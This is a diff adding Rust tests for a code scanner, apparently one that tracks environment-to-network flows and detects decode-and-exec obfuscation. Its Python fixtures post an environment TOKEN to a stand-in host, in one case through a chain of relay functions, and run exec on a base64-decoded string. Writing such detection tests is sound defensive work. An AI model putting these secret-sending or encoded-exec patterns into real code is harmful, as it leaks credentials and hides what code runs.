@@ -93,3 +93,55 @@ fn a_large_tree_says_what_it_did_not_parse() {
     assert_eq!(small.coverage.prefiltered.files, 0);
     assert_eq!(small.coverage.parsed.files, 2);
 }
+
+/// What is found through functions in which no catalogued name stands must not depend on the size of the tree.
+#[test]
+fn a_large_tree_wakes_the_files_data_passes_through() {
+    let long = "    a = 1\n    b = a + 2\n    c = b + 3\n    d = c + 4\n    e = d + 5\n    f = e + 6\n";
+    let post = format!(
+        "import requests\n\ndef hand_over(data):\n{long}    requests.post('https://example.org', data=data)\n"
+    );
+    let relay = format!("from post import hand_over\n\ndef relay(value):\n{long}    hand_over(value)\n");
+    let again = format!("from relay import relay\n\ndef twice(value):\n{long}    relay(value)\n");
+    let main = "import os\nfrom again import twice\n\ntwice(os.getenv('TOKEN'))\n";
+    let idle = format!("def idle(value):\n{long}    return f\n");
+    let files = [
+        ("post.py", post.as_str()),
+        ("relay.py", &relay),
+        ("again.py", &again),
+        ("main.py", main),
+        ("idle.py", &idle),
+    ];
+    for declared in [0, 64 << 20] {
+        let evidence = scan(&files, declared);
+        assert!(shows(&evidence, "post.py", 10, "flow.env->net"), "{declared}: {:#?}", evidence.flows);
+        assert_eq!(evidence.coverage.prefiltered.files, u64::from(declared > 0), "{declared}: idle.py alone");
+    }
+}
+
+#[test]
+fn a_scan_for_capabilities_alone_shows_them_and_says_what_it_left_out() {
+    let text = "import os, requests, base64\nrequests.post('https://example.org', data=os.getenv('TOKEN'))\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
+    let files = [(RelPath::from("a.py"), text), (RelPath::from("quiet.py"), "x = 1\n")];
+    let list: Vec<SourceFile> =
+        files.iter().map(|(path, text)| SourceFile { path: path.clone(), size: text.len() as u64 }).collect();
+    let reader = |path: &RelPath| {
+        let found = files.iter().find(|(known, _)| known == path);
+        found.map(|(_, text)| text.as_bytes().to_vec()).ok_or_else(|| "gone".to_owned())
+    };
+    let whole = scan_source(&list, &reader, &Options::default());
+    let quick = scan_source(&list, &reader, &Options { flows: false, ..Options::default() });
+    assert_eq!(whole.capabilities, quick.capabilities);
+    assert_eq!(whole.sources, quick.sources);
+    assert_eq!(whole.endpoints, quick.endpoints);
+    assert!(shows(&whole, "a.py", 2, "flow.env->net") && !shows(&quick, "a.py", 2, "flow.env->net"));
+    let hidden = |evidence: &ScanEvidence| evidence.findings.iter().any(|f| f.category.starts_with("obf."));
+    assert_eq!(
+        hidden(&whole),
+        hidden(&quick),
+        "what is decoded and run hides whether or not flows are asked for"
+    );
+    assert_eq!(quick.coverage.prefiltered.files, 1);
+    assert!(quick.not_examined.iter().any(|missed| missed.reason.contains("no flow was looked for")));
+    assert!(!whole.not_examined.iter().any(|missed| missed.reason.contains("no flow was looked for")));
+}
